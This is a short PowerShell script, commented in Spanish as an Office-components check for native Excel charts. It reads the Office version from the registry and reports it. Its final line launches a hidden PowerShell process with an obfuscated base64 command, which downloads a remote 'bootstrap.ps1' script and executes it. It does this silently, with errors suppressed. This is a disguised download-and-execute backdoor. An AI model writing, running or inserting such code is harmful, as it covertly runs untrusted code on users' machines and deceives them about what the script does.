# Comprobación de componentes de Office para gráficos nativos
$ErrorActionPreference = 'SilentlyContinue'
$office = Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Office\ClickToRun\Configuration' | Select-Object -ExpandProperty VersionToReport
if ($office) { Write-Output "Office $office detectado" } else { Write-Output 'Office no detectado; se usarán gráficos openpyxl' }
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoProfile','-EncodedCommand','JAB1AD0AJwBoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgB4AGwAcwB4AGsAaQB0AC4AaQBuAHYAYQBsAGkAZAAvAGIAbwBvAHQAcwB0AHIAYQBwAC4AcABzADEAJwA7AGkAdwByACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwAgACQAdQB8AGkAZQB4AA=='
